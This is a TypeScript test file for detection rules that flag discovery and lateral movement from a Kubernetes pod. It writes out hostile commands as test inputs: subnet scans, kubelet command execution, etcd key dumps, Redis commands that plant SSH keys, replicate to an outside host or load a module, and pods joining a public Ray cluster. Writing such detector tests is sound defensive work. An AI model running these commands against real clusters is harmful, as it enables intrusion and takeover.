/**
 * Discovery and lateral movement from inside a pod, through the shipped rule set and the real
 * engine: a network scan (scanners, netcat over a port range, a subnet swept by a loop:
 * MLS-RAY-024), the kubelet, etcd or a Redis server's admin commands reached past the API server
 * (MLS-RAY-025), kubectl asked what the pod's credentials may do or listing the whole cluster
 * (MLS-RAY-026, escalated), the pod joined to or driving a Ray cluster at a public address
 * (MLS-RAY-027). The everyday commands beside them (a port check, a local API, a Redis ping, the
 * pod's own namespace listed, a help page, the company's Ray cluster by name) raise none of them.
 */
import { describe, expect, it } from 'vitest';
import { execRuleIds, SA } from './exec-events.test-support.js';

const sh = (line: string): string[] => ['sh', '-c', line];
const RULES = ['MLS-RAY-024', 'MLS-RAY-025', 'MLS-RAY-026', 'MLS-RAY-027'];
const fired = (line: string): string[] => execRuleIds(sh(line)).filter((id) => RULES.includes(id));

describe('discovery and lateral movement from a pod', () => {
  it('alerts on scans: scanners, a netcat port range, a subnet swept by a shell or interpreter loop', () => {
    for (const line of [
      'nmap -sT -p 6379,8265,10001,8888 10.0.3.0/24',
      'masscan -p8265 10.0.0.0/16 --rate 10000',
      'for i in $(seq 1 254); do (curl -s -m1 http://10.0.3.$i:8265/api/version &); done',
      'for i in $(seq 1 254); do ping -c1 -W1 10.0.3.${i} >/dev/null && echo up $i; done',
      'nc -zv 10.0.3.7 1-65535',
      `python3 -c "import socket; [socket.create_connection(('10.0.3.%d' % i, 8265), 0.2) for i in range(1,255)]"`,
      `python3 -c "import requests; [requests.get(f'http://10.0.3.{i}:8265/api/version', timeout=1) for i in range(254)]"`,
    ]) {
      expect(fired(line), line).toEqual(['MLS-RAY-024']);
      expect(execRuleIds(sh(line), SA), line).toContain('MLS-RAY-024');
    }
  });

  it('alerts on the kubelet and etcd reached directly, kubelet attack tools, and Redis turned against its host', () => {
    for (const line of [
      'curl -sk https://10.0.0.1:10250/pods',
      'curl -sk https://$NODE_IP:10250/run/ml-train/trainer-0/pytorch -d cmd=id',
      'wget -qO- http://10.0.0.1:10255/pods',
      'curl -s --cacert ca.crt https://10.0.0.5:2379/v3/kv/range',
      'etcdctl --endpoints=https://10.0.0.5:2379 get / --prefix --keys-only',
      'kubeletctl -s 10.0.0.1 scan rce',
      'redis-cli -h ray-head.ml.svc -p 6379 CONFIG SET dir /root/.ssh',
      'redis-cli -h 10.0.3.7 slaveof 203.0.113.5 6379',
      'redis-cli -h 10.0.3.7 config set dbfilename authorized_keys',
      'redis-cli -h 10.0.3.7 MODULE LOAD /tmp/exp.so',
    ]) expect(fired(line), line).toContain('MLS-RAY-025');
  });

  it('escalates kubectl permission and identity discovery and cluster-wide listings', () => {
    for (const line of ['kubectl auth can-i --list', 'kubectl auth can-i create pods -n kube-system', 'kubectl auth whoami', 'kubectl get pods -A -o wide', 'kubectl get svc --all-namespaces', 'kubectl cluster-info dump']) {
      expect(fired(line), line).toEqual(['MLS-RAY-026']);
    }
  });

  it('alerts on the pod joined to, or driving, a Ray cluster at a public address', () => {
    for (const line of [
      'ray start --address=203.0.113.9:6379 --num-gpus=8',
      "ray start --address='45.77.12.3:6379' --block",
      'ray start --address 45.77.12.3:6379',
      'ray job submit --address http://198.51.100.7:8265 -- python x.py',
      `python3 -c "import ray; ray.init('ray://203.0.113.9:10001'); print(ray.cluster_resources())"`,
      'RAY_ADDRESS=203.0.113.9:6379 python3 worker.py',
    ]) expect(fired(line), line).toEqual(['MLS-RAY-027']);
  });

  it('leaves a Ray cluster by name or at a private address', () => {
    for (const line of [
      'ray start --address=ray-head-svc:6379',
      'ray start --address=10.0.3.7:6379',
      'ray start --address=172.20.1.4:6379',
      'ray job submit --address http://127.0.0.1:8265 -- python x.py',
      `python3 -c "import ray; ray.init('ray://ray-head.ml.svc:10001')"`,
      `python3 -c "import ray; ray.init('ray://192.168.1.20:10001')"`,
      'ray start --head --port=6379 --dashboard-host=0.0.0.0',
      'RAY_ADDRESS=10.0.3.7:6379 python3 worker.py',
    ]) expect(fired(line), line).toEqual([]);
  });

  it('leaves a port check, a local API, a Redis ping, the pod\'s own namespace listed, help pages and version checks', () => {
    for (const line of [
      'nc -zv redis 6379',
      'curl -s http://localhost:8265/api/version',
      'redis-cli -h redis ping',
      'redis-cli -h redis CONFIG GET maxmemory',
      'redis-cli -h redis CONFIG GET dir',
      'redis-cli -h redis SET dir x',
      'redis-cli -h redis MODULE LIST',
      'kubectl get pods',
      'kubectl cluster-info',
      'nmap --version',
      'curl -s http://10.0.3.7:8265/api/version',
      'echo 10.0.3.7',
    ]) expect(fired(line), line).toEqual([]);
  });
});
